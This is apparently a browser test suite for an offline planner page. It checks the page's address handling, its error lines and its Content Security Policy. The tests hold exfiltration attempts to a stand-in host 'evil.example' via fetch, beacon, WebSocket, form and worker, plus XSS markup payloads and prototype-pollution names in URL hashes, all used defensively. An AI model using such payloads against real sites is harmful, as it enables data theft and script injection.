/** The planner from a disk and without a network: its four tabs, its address, and what it never does. */
import { readFileSync, statSync } from 'node:fs';
import { browserPage } from './browser-page.ts';
import { pageFile } from './places.ts';
import { currentTab, goTo, hashOf, linkOf, saidProblems, settled, tabs, tabTexts } from './planner-page.ts';

const browser = browserPage();
const open = (hash = '') => browser.open('planner', { hash });

test('is one file below 3 MB that names no address to load from', () => {
  const html = readFileSync(pageFile('planner'), 'utf8');
  expect(statSync(pageFile('planner')).size).toBeLessThan(3_000_000);
  const attributes = html.match(
    /<(script|link|img|iframe|object|embed)\b[^>]*\s(src|href)=("[^"]*"|[^\s>]*)/g,
  );
  expect(attributes).toEqual(['<link rel="icon" href="data:,"']);
});

test.each(tabs)('%s opens by its address and by its link, with no request and no complaint', async (tab) => {
  const page = await open(`#${tab}`);
  expect(await currentTab(browser.page())).toBe(tabTexts[tab]);
  const byAddress = await page.locator('main').innerText();
  await open();
  await linkOf(browser.page(), tab).click();
  await settled(browser.page());
  expect(await browser.page().locator('main').innerText()).toBe(byAddress);
  expect(hashOf(browser.page())).toBe(`#${tab}`);
});

describe('whatever would run in the page could send nothing', () => {
  const away = 'https://evil.example/take';
  const element = (name: string, attributes: string): string => `new Promise((done) => {
    const one = Object.assign(document.createElement('${name}'), { onerror: done, onload: done, ${attributes} });
    document.head.append(one);
  })`;
  test.each([
    ['connect-src', 'fetch', `fetch('${away}')`],
    [
      'connect-src',
      'XMLHttpRequest',
      `{ const one = new XMLHttpRequest(); one.open('POST', '${away}'); one.send('x'); }`,
    ],
    ['connect-src', 'a beacon', `navigator.sendBeacon('${away}', 'x')`],
    ['connect-src', 'a web socket', `new WebSocket('wss://evil.example')`],
    ['connect-src', 'an event source', `new EventSource('${away}')`],
    ['img-src', 'an image', element('img', `src: '${away}'`)],
    ['script-src-elem', 'a script', element('script', `src: '${away}'`)],
    ['style-src-elem', 'a style', element('link', `rel: 'stylesheet', href: '${away}'`)],
    ['frame-src', 'a frame', element('iframe', `src: '${away}'`)],
    [
      'form-action',
      'a form',
      `{ ${`const one = document.createElement('form'); one.action = '${away}'; one.method = 'post'; document.body.append(one); one.submit();`} }`,
    ],
  ])('%s refuses %s', async (directive, _, script) => {
    const page = await open();
    await page.evaluate(`
      window.refused = new Promise((done) =>
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective)));
      setTimeout(() => { try { ${script.startsWith('{') ? script : `void ${script}`} } catch {} });
    `);
    expect(await page.evaluate('window.refused')).toBe(directive);
    browser.takeComplaints();
  });

  test('connect-src refuses fetch in a worker that the page could start', async () => {
    const page = await open();
    const inWorker = `
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => postMessage(effectiveDirective));
      fetch('${away}').then(() => postMessage('sent'), () => setTimeout(() => postMessage('only failed'), 500));`;
    const said = await page.evaluate<string>(`new Promise((done) => {
      const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inWorker)}])));
      worker.onmessage = ({ data }) => done(data);
    })`);
    expect(said).toBe('connect-src');
    browser.takeComplaints();
  });

  test('an inline script or a handler does not run', async () => {
    const page = await open();
    await page.evaluate(`
      const script = document.createElement('script');
      script.textContent = 'window.__hacked = 1';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<button id="bad" onclick="window.__hacked = 1">x</button>');
      document.getElementById('bad').click();
    `);
    expect(browser.takeComplaints().length).toBeGreaterThanOrEqual(2);
    expect(await page.evaluate('window.__hacked')).toBeUndefined();
  });
});

describe('the address', () => {
  test('goes back and forward between what was looked at', async () => {
    const page = await open('#plan');
    for (const tab of ['burst', 'audit', 'grade'] as const) {
      await linkOf(page, tab).click();
      await settled(page);
    }
    for (const tab of ['audit', 'burst', 'plan'] as const) {
      await page.goBack();
      await settled(page);
      expect(await currentTab(browser.page())).toBe(tabTexts[tab]);
    }
    await page.goForward();
    await settled(page);
    expect(await currentTab(browser.page())).toBe(tabTexts.burst);
  });

  test('of two thousand that are gone to in one turn the last is shown', async () => {
    const page = await open('#plan');
    await page.evaluate(
      "for (let i = 1; i <= 2000; i++) location.hash = '#plan?v=1&plan.iops=' + (1000 + i); location.hash = '#burst'",
    );
    await settled(page);
    expect(await currentTab(page)).toBe(tabTexts.burst);
    expect(hashOf(page)).toBe('#burst');
  });

  test('of another page is followed without opening it anew', async () => {
    const page = await open('#plan');
    await page.evaluate('window.opened = 1');
    await goTo(page, '#burst');
    expect(await currentTab(browser.page())).toBe(tabTexts.burst);
    expect(await page.evaluate('window.opened')).toBe(1);
  });
});

describe('an address that is not right is said in one line, and the page lives on', () => {
  const markup = '<img src=x onerror="window.__hacked=1">';
  const lines = [
    ['NaN', '#plan?v=1&plan.iops=NaN'],
    ['more than a number can be', '#plan?v=1&plan.iops=1e999'],
    ['Infinity', '#plan?v=1&plan.iops=Infinity'],
    ['below zero', '#plan?v=1&plan.iops=-5'],
    ['zero', '#plan?v=1&plan.iops=0'],
    ['hexadecimal', '#plan?v=1&plan.iops=0x10'],
    ['nothing', '#plan?v=1&plan.iops='],
    ['markup', `#plan?v=1&plan.iops=${encodeURIComponent(markup)}`],
    ['markup as it is', `#plan?v=1&plan.iops=${markup}`],
    ['a broken percent-encoding', '#plan?v=1&plan.iops=%E0%A4%A'],
    ['a percent sign alone', '#plan?v=1&plan.iops=%'],
    ['what turns the text around', '#plan?v=1&plan.iops=%E2%80%AE1'],
    ['a megabyte', `#plan?v=1&plan.iops=${'9'.repeat(1_000_000)}`],
    ['another version', '#plan?v=2&plan.iops=5000'],
    ['a version that is markup', `#plan?v=${encodeURIComponent(markup)}`],
    ['a version of a megabyte', `#plan?v=${'1'.repeat(1_000_000)}`],
  ] as const;
  test.each(lines)('%s', async (_, hash) => {
    const page = await open(hash);
    await settled(page);
    const [line = '', ...more] = await saidProblems(page);
    expect(more).toEqual([]);
    expect(line).not.toMatch(/[\r\n]|\p{Cf}/u);
    expect(line.length).toBeGreaterThan(20);
    expect(line.length).toBeLessThan(400);
    expect(await page.evaluate('window.__hacked')).toBeUndefined();
    expect(hashOf(page).length).toBeLessThan(2_000);
    await linkOf(page, 'burst').click();
    expect(await currentTab(browser.page())).toBe(tabTexts.burst);
  });

  test.each([
    ['names that every object has', '#plan?v=1&__proto__=1&constructor=2&toString=3', 0],
    ['an anchor of the page', '#content', 0],
    ['an anchor of nothing', '#elsewhere', 1],
    ['a tab in capitals', '#PLAN', 1],
    ['a tab with a slash', '#/plan', 1],
    ['a name that every object has', '#__proto__', 1],
    ['an anchor that is markup', `#${markup}`, 1],
    ['a percent sign', '#%', 1],
    ['half a character', '#%ED%A0%80', 1],
  ])('%s changes nothing, and what is not there is one line', async (_, hash, lines) => {
    const page = await open('#plan');
    const usual = await page.locator('main section').first().innerText();
    await goTo(page, hash);
    expect(await page.locator('main section').first().innerText()).toBe(usual);
    expect(await saidProblems(page)).toHaveLength(lines);
    expect(await page.evaluate('window.__hacked')).toBeUndefined();
    expect(await page.evaluate("({}).iops ?? 'clean'")).toBe('clean');
  });

  test.each([
    ['names of objects as names of the tab', '#plan?v=1&plan.__proto__=3&plan.iops=5000', 1],
    ['a tab of nobody', '#__proto__?v=1', 1],
    ['a tab that is markup', `#${markup}?v=1`, 1],
    ['three figures that are none', '#plan?v=1&plan.iops=a&plan.capacityGiB=b&burst.sizeGiB=c', 3],
    [
      'five hundred names of nobody',
      `#plan?v=1&${Array.from({ length: 500 }, (_, i) => `plan.x${i}=1`).join('&')}`,
      1,
    ],
  ])('%s: a line each, of many the first', async (_, hash, lines) => {
    const page = await open(hash);
    expect(await saidProblems(page)).toHaveLength(lines);
    expect(await page.evaluate('window.__hacked')).toBeUndefined();
    expect(await page.evaluate("({}).iops ?? ({}).x0 ?? 'clean'")).toBe('clean');
  });

  test('a right one that is gone to afterwards is shown without that line', async () => {
    const page = await open('#plan?v=1&plan.iops=NaN');
    expect(await saidProblems(page)).toHaveLength(1);
    await goTo(page, '#plan?v=1&plan.iops=5000');
    expect(await saidProblems(page)).toEqual([]);
  });

  test('one that is not there, gone to afterwards, says its own line in the place of the older', async () => {
    const page = await open('#plan?v=1&plan.iops=NaN');
    await goTo(page, '#PLAN');
    expect(await saidProblems(page)).toEqual([
      'The link asks for "PLAN", which this page does not have: it has plan, burst, audit and grade.',
    ]);
    expect(hashOf(page)).toBe('#plan');
  });
});
